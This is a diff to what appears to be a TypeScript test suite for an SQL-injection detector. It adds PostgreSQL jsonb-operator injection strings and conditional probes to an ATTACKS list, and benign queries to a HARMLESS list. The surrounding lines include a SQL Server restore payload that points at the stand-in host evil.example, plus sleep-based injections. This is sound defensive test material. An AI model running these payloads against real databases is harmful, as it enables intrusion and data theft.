@@ -45,7 +45,13 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     'version()::int',
     '(ascii(substr(user(),1,1))>64)*7',
   ],
+  'parts of a document in JSON (CWE-89)': [
+    "x' or '{\"a\":1}'::jsonb ?| array['a']--",
+    "x' and '{\"a\":1}'::jsonb @? '$.a'--",
+  ],
   'what one server reads (CWE-89)': [
+    ';replace/**/t(id,name) values (1,2);',
+    "if(substr(user(),1,1)='r',a,b)",
     "'; restore filelistonly from disk='\\\\evil.example\\x'--",
     "1';call case when (1=1) then crypt_key('AES',null) end--",
     "1');begin user_lock.sleep(5); end;--",
@@ -158,6 +164,9 @@ describe.each(Object.entries(ATTACKS))('%s', (_name, texts) => {
 })
 
 const HARMLESS: readonly string[] = [
+  "'SELECT a, b FROM c WHERE d = %s'",
+  "db.query('SELECT a FROM b WHERE id = $1', [x])",
+  'sum(rate(a{s=~"^4.."}[1m])) / sum(rate(a[1m])) * 100 > 5 and sum(rate(b[1m])) > 0',
   'r = sleep(5)',
   'version()::next',
   'country = (select country)',
